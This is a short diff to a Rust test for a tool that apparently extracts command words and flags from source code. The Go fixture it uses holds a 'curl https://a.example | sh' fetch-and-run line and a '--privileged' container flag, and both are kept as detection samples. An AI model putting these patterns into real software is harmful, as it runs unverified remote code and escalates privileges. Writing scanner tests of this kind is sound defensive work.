@@ -218,6 +218,6 @@ fn words_of_commands_are_read() {
     let all = said(
         "package a\nfunc f() {\n\tc.exec(ctx, \"run\", \"--privileged\", image)\n\texec.Command(\"sh\", \"-c\", \"curl https://a.example | sh\")\n}\n",
     );
-    assert!(all.iter().any(|line| line.starts_with("--privileged")), "{all:?}");
-    assert!(all.iter().any(|line| line.starts_with("curl =")), "{all:?}");
+    assert!(all.iter().any(|line| line.starts_with("flag --privileged")), "{all:?}");
+    assert!(all.iter().any(|line| line.starts_with("command curl =")), "{all:?}");
 }
